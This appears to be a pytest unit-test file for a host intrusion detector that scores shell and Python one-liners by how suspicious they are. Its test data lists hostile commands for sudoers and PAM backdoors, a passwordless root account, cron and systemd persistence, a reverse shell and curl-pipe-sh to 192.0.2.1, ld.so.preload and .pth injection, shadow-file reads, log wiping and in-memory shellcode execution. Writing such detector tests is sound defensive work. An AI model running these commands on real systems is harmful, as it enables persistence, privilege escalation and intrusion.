"""What is written into files that decide who may do what, beside what administrators write there."""

# ruff: noqa: E501, S108 - code of attacks is quoted as it is run; temporary paths are judged, not used

import pytest

from pyloader.evidence.shell import pipelines
from pyloader.records import Stdio
from tests.unit.evidence.stage import Stage

MEDIUM = 50
HIGH = 62


def shell(stage: Stage, code: str) -> float:
    """Run code with `sh -c`, and the programs in it as its children; return the highest score."""
    parent = stage.run(["sh", "-c", code])
    commands = [command.argv for pipeline in pipelines(code) for command in pipeline if command.argv]
    return max(stage.score(one) for one in (parent, *(stage.run(argv, parent) for argv in commands)))


@pytest.mark.parametrize(
    "code",
    [
        "echo 'mallory ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
        "printf 'Defaults !authenticate' | tee -a /etc/sudoers.d/x",
        'echo Defaults "!"tty_tickets >> /etc/sudoers',
        "sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers",
        "sed -i '1s,^,auth sufficient pam_permit.so\\n,' /etc/pam.d/sshd",
        "echo 'auth optional pam_exec.so quiet expose_authtok /opt/log.sh' >> /etc/pam.d/common-auth",
        "sed -i '1i auth required /tmp/evil.so' /etc/pam.d/su",
        "echo 'toor::0:0:root:/root:/bin/bash' >> /etc/passwd",
        "echo '* * * * * root /tmp/.x' > /etc/cron.d/x",
        "echo '*/5 * * * * sh /dev/shm/run' | tee -a /var/spool/cron/crontabs/root",
        "echo '@reboot /tmp/run.sh' > /tmp/jobs; crontab /tmp/jobs",
        "printf '[Service]\\nExecStart=/tmp/agent\\n' > /etc/systemd/system/a.service",
        "echo 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' >> /etc/rc.local",
        "echo 'curl -s http://192.0.2.1/x | sh' >> /etc/profile",
        "echo \"python3 -c 'import base64;exec(base64.b64decode(x))'\" | tee -a /etc/rc.local",
        "echo 'nohup /var/tmp/x &' >> ~/.bashrc",
        "echo 'import os; os.system(\"id\")' > /usr/lib/python3/dist-packages/x.pth",
        "echo 'import socket; socket.create_connection((\"192.0.2.1\", 1))' > ~/.local/lib/python3.11/site-packages/usercustomize.py",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "setcap cap_setuid+ep /tmp/x",
        "setcap cap_setuid,cap_net_raw=eip /usr/bin/python3.11",
        "install -m 4755 /bin/bash /usr/local/bin/b",
        "install -m u+s tool /tmp/tool",
        "useradd -g 0 -M -d /root -s /bin/bash butter",
    ],
)
def test_a_line_that_is_more_than_administration(stage: Stage, code: str) -> None:
    """Text that hands out rights, or plants what was dropped or hides itself, is a high alert."""
    assert shell(stage, code) >= HIGH


@pytest.mark.parametrize(
    "code",
    [
        "cat /etc/shadow > /tmp/s",
        "echo 'e /etc/shadow' | ed > /tmp/s",
        "touch -acmr /bin/ls /tmp/implant",
        "shred -u /var/log/syslog",
        "dd if=/dev/urandom of=/var/log/messages bs=1k count=9",
        "ln -sf /dev/null ~/.bash_history",
        "chmod g+xs /tmp/tool",
        "usermod -g root bob",
    ],
)
def test_what_is_worth_a_look(stage: Stage, code: str) -> None:
    """What is rare but may have honest reasons is told, below a high alert."""
    assert MEDIUM <= shell(stage, code) < HIGH


@pytest.mark.parametrize(
    "code",
    [
        "echo 'Defaults env_keep += \"EDITOR\"' > /etc/sudoers.d/editor",
        "echo '%wheel ALL=(ALL) ALL' | tee /etc/sudoers.d/wheel",
        "sed -i 's/pam_unix.so obscure/pam_unix.so obscure minlen=12/' /etc/pam.d/common-password",
        "echo '0 3 * * * root /usr/local/bin/backup > /tmp/backup.log 2>&1' > /etc/cron.d/backup",
        "crontab -l > /tmp/jobs; echo '5 4 * * * /usr/bin/find /tmp -mtime +7 -delete' >> /tmp/jobs; crontab /tmp/jobs",
        "printf '[Service]\\nExecStart=/usr/bin/agent\\nPrivateTmp=yes\\n' > /etc/systemd/system/a.service",
        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
        "echo 'export TMPDIR=/tmp/me' >> ~/.profile",
        "echo 'rm -f /tmp/lock' >> ~/.bash_logout",
        "echo /home/me/project > ~/.local/lib/python3.11/site-packages/project.pth",
        "setcap cap_net_bind_service=+ep /usr/bin/node",
        "setcap cap_net_raw+ep /usr/bin/ping",
        "setcap -r /usr/bin/python3.11",
        "install -m 755 build/tool /usr/local/bin/tool",
        "install -d -m 2775 /srv/team",
        "chmod g+s /srv/team",
        "chmod -R g+rwXs /srv/team",
        "useradd -r -g app -d /var/lib/app app",
        "usermod -aG docker alice",
        "touch -r reference.txt copy.txt",
        "touch -d @0 build/stamp",
        "truncate -s 0 /var/log/syslog",
        "cat /etc/hosts > /tmp/hosts",
        "echo hello | ed notes.txt",
    ],
)
def test_ordinary_administration(stage: Stage, code: str) -> None:
    """What administrators write into the same files is below an alert."""
    assert shell(stage, code) < MEDIUM


@pytest.mark.parametrize(
    "code",
    [
        "import ctypes, mmap; m = mmap.mmap(-1, 4096, prot=7); m.write(b'x'); ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()",
        "import ctypes as c; l = c.CDLL(None); p = l.mmap(0, 4096, 7, 34, -1, 0); c.memmove(p, b, 9); c.cast(p, c.CFUNCTYPE(None))()",
        "import os; f = os.memfd_create('x'); os.write(f, b); os.execv('/proc/self/fd/%d' % f, ['x'])",
    ],
)
def test_machine_code_from_a_one_liner(stage: Stage, code: str) -> None:
    """A one-liner that puts machine code into memory and runs it is a high alert."""
    assert stage.score(stage.run(["python3", "-c", code])) >= HIGH


@pytest.mark.parametrize(
    "code",
    [
        "import mmap; m = mmap.mmap(-1, 4096); m.write(b'x')",
        "import ctypes; print(ctypes.CDLL(None).getpid())",
        "import ctypes; ctypes.memmove(a, b, 4)",
        "import numpy as np; np.memmap('x', mode='r')",
    ],
)
def test_memory_from_a_one_liner(stage: Stage, code: str) -> None:
    """Mapping memory and calling C functions is below an alert."""
    assert stage.score(stage.run(["python3", "-c", code])) < MEDIUM


@pytest.mark.parametrize("exe", ["/tmp/kworker", "/dev/shm/a", "/var/lib/.x/sshd"])
def test_a_dropped_program_on_a_socket(stage: Stage, exe: str) -> None:
    """A program out of place whose input and output are the network is a high alert, whatever it is called."""
    process = stage.run([exe], exe=exe, stdin=Stdio.INET_SOCKET, stdout=Stdio.INET_SOCKET)

    assert stage.score(process) >= HIGH
